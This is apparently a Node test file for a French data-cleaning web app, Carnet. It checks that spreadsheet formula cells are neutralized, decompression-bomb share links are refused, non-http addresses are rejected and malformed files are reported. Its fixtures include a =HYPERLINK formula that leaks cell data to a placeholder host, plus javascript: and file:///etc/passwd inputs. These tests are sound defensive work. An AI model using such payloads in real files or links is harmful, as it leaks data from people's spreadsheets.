// What Carnet writes is safe to open: a text cell a spreadsheet would run as a formula is
// neutralized in the clean CSV and in the published ZIP, and the page says so. What it reads
// is bounded: a share link that inflates past its cap, an address that is not http(s).
import { test } from "node:test";
import assert from "node:assert/strict";
import { deflateRawSync } from "node:zlib";
import { CarnetPage } from "./carnet-page.mjs";
import { badFiles } from "./fixtures.mjs";
import { assertClean, useApp } from "./harness.mjs";

const app = useApp();

/** A commune file re-saved by a person, whose text cells start with formula characters. */
const formulas = {
  name: "associations_2024.csv",
  mimeType: "text/csv",
  buffer: Buffer.from(
    "CODGEO;NOM_ASSOCIATION;SOLDE\n" +
      "59522;\"=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\";-3,5\n" +
      "59522;@SUM(1+1);12\n" +
      "59332;Club de Lannoy;4\n",
  ),
};

test("formula cells are neutralized in the clean CSV, numbers keep their sign, the page says it", async () => {
  const carnet = await CarnetPage.open(app.browser, app.url);
  const page = carnet.page;
  await carnet.pickCommune("sailly lez", /Sailly-lez-Lannoy \(59522\)/);
  await carnet.upload(formulas);
  await page.getByRole("button", { name: "Télécharger le CSV nettoyé" }).waitFor({ timeout: 60_000 });
  const notice = await page.locator(".neutralized").innerText();
  assert.match(notice, /^2 cellules commençaient par « = », « \+ », « - », « @ », une tabulation ou un retour chariot : Carnet les a neutralisées pour les tableurs/);
  assert.match(notice, /colonne « NOM_ASSOCIATION »/);
  const csv = (await carnet.download("Télécharger le CSV nettoyé")).text.trimEnd().split("\n");
  assert.deepEqual(csv, [
    "CODGEO,NOM_ASSOCIATION,SOLDE",
    "59522,\"'=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\",-3.5",
    // The column's precision, one decimal (its -3,5), for each of its values.
    "59522,'@SUM(1+1),12.0",
  ]);
  await carnet.screenshot("97-formules-neutralisees", ".selection");
  assertClean(carnet);
  await page.context().close();
});

/** A share link whose fragment carries `bytes`, deflated and in base64url. */
function shareLink(base, bytes) {
  return `${base}#carnet=${deflateRawSync(bytes, { level: 9 }).toString("base64url")}`;
}

test("a share link that inflates past its cap, or is too long, opens Carnet without it, in words", async () => {
  // 4 MB of spaces deflate to about 4 KB: a bomb sent by e-mail.
  const bomb = shareLink(app.url, Buffer.alloc(4 * 1024 * 1024, 0x20));
  assert.ok(bomb.length < 8_000, `a link of ${bomb.length} characters`);
  const long = `${app.url}#carnet=${"A".repeat(40_000)}`;
  for (const [link, name] of [[bomb, "bombe"], [long, "trop-long"]]) {
    const carnet = await CarnetPage.open(app.browser, link);
    const page = carnet.page;
    await page.getByText("Ce lien est trop long ou abîmé : Carnet s’ouvre sans lui.").waitFor({ timeout: 5_000 });
    // Time since the page was asked for: loading the app included.
    const elapsed = await page.evaluate(() => performance.now());
    assert.ok(elapsed < 2_000, `${name}: the message came ${Math.round(elapsed)} ms after the page was opened`);
    // The app works as usual.
    await carnet.pickCommune("sailly lez", /Sailly-lez-Lannoy \(59522\)/);
    await carnet.upload(formulas);
    await page.getByRole("button", { name: "Télécharger le CSV nettoyé" }).waitFor({ timeout: 60_000 });
    await carnet.screenshot(`97-lien-${name}`);
    assertClean(carnet);
    await page.context().close();
  }
});

test("?src= opens only http(s) addresses: javascript:, data:, file: and blob: are refused in words", async () => {
  for (const [src, scheme] of [
    ["javascript:alert(1)", "javascript"],
    ["data:text/csv,CODGEO;MED20%0A59522;29440", "data"],
    ["file:///etc/passwd", "file"],
    ["blob:https://exemple.invalid/1234", "blob"],
  ]) {
    const carnet = await CarnetPage.open(app.browser, `${app.url}?src=${encodeURIComponent(src)}`);
    const page = carnet.page;
    const alert = page.getByRole("alert").filter({ hasText: "Carnet n’ouvre par lien que des adresses" });
    await alert.waitFor({ timeout: 5_000 });
    assert.match(await alert.innerText(), new RegExp(`commence par « ${scheme}: »\\. Rien n’a été ouvert\\.$`));
    assert.equal(await page.getByRole("button", { name: "Ouvrir ce fichier" }).count(), 0, "nothing to click");
    assertClean(carnet);
    await page.context().close();
  }
});

/** Files no one should bring, and what Carnet says of each (or shows, when it reads it). */
function hostileFiles() {
  const columns = 100_000;
  const wide = [Array.from({ length: columns }, (_, i) => `C${i}`).join(";"), Array(columns).fill("1").join(";"), ""].join("\n");
  const csv = (name, text) => ({ name, mimeType: "text/csv", buffer: Buffer.isBuffer(text) ? text : Buffer.from(text) });
  return [
    ["vide", badFiles.empty, /« vide\.csv » est vide/],
    ["png", badFiles.binary, /« photo\.csv » est une image PNG, pas un tableau de données/],
    ["pdf", csv("rapport.csv", Buffer.concat([Buffer.from("%PDF-1.7\n%"), Buffer.from([0xe2, 0xe3, 0xcf, 0xd3]), Buffer.from("\n1 0 obj\n")])),
      /« rapport\.csv » est un document PDF, pas un tableau de données/],
    ["nul", csv("zeros.csv", Buffer.alloc(64 * 1024)), /« zeros\.csv » n’est pas un fichier texte : il contient des octets binaires à la ligne 1/],
    ["xlsx-bombe", csv("classeur.xlsx", Buffer.concat([Buffer.from("PK\x03\x04\x14\x00\x00\x00\x08\x00", "latin1"), Buffer.alloc(4096, 0x41)])),
      /« classeur\.xlsx » se présente comme une archive ZIP, mais il est abîmé ou incomplet/],
    ["xls-protege", csv("protege.xls", Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(4096)])),
      /« protege\.xls » se présente comme un classeur Excel 97-2003 \(\.xls\), mais il est abîmé ou incomplet/],
    ["utf8-invalide", csv("mele.csv", Buffer.concat([Buffer.from("CODGEO;LIBGEO;MED20\n59522;Sailly-lez-Lannoy é;29440\n"), Buffer.from([0x35, 0x39, 0x33, 0x35, 0x30, 0x3b, 0x4c, 0xe9, 0x3b, 0x32, 0x31, 0x0a])])),
      /Encodage : UTF-8 mêlé de Windows-1252/],
    ["colonnes", csv("large.csv", wide), /1 ligne, 100\u202f000 colonnes/],
    ["cellule", csv("cellule.csv", `CODGEO;NOTE\n59522;${"é".repeat(2_500_000)}\n`), /1 ligne, 2 colonnes/],
    ["guillemet", csv("guillemet.csv", 'CODGEO;MED20\n"01001;24820\n59522;29440\n'), /Ligne 2 : guillemet ouvert jamais fermé/],
  ];
}

test("hostile files get words within 5 s, and the page answers meanwhile", async () => {
  const carnet = await CarnetPage.open(app.browser, app.url);
  const page = carnet.page;
  for (const [name, file, expected] of hostileFiles()) {
    const started = Date.now();
    await carnet.upload(file);
    // The page answers while the worker reads.
    await carnet.commune.fill("Sailly");
    await page.getByRole("option", { name: /Sailly-lez-Lannoy \(59522\)/ }).waitFor({ timeout: 5_000 });
    await carnet.commune.fill("");
    await page.getByText(expected).first().waitFor({ timeout: 5_000 });
    const elapsed = Date.now() - started;
    assert.ok(elapsed < 5_000, `${name}: ${elapsed} ms`);
    if (name === "colonnes") {
      // The explorer opens on it too, showing its first columns.
      await page.getByRole("button", { name: "Explorer tout le fichier" }).click();
      await page.getByText(/Les 99\s940 dernières colonnes ne sont pas affichées ici/).waitFor({ timeout: 5_000 });
      assert.equal(await page.locator(".explorer-table thead tr").first().locator("th").count(), 61);
      await carnet.screenshot("98-hostile-colonnes-explorateur");
    }
    await carnet.screenshot(`98-hostile-${name}`);
  }
  assertClean(carnet);
  await page.context().close();
});
